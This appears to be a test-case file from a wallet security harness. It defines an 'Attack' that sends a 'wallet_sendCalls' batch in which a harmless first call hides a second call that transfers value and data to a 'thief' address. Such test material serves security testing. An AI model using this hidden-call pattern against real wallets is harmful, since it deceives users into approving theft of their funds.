import type { Attack } from '../Attack.ts';

/** The first call is what the person expects. */
export const attack: Attack = {
  entry: 'provider.request',
  mechanism: 'wallet_sendCalls with an evil second call',
  discovers: true,
  script: `
const calls = [{ to: kit.account, value: '0x0', data: '0x' }, { to: kit.thief, value: '0x1', data: kit.hex }];
await (await kit.wallet()).request({ method: 'wallet_sendCalls', params: [{ version: '2.0.0', from: kit.account, chainId: '0x' + kit.chainId.toString(16), atomicRequired: false, calls }] });
`,
};
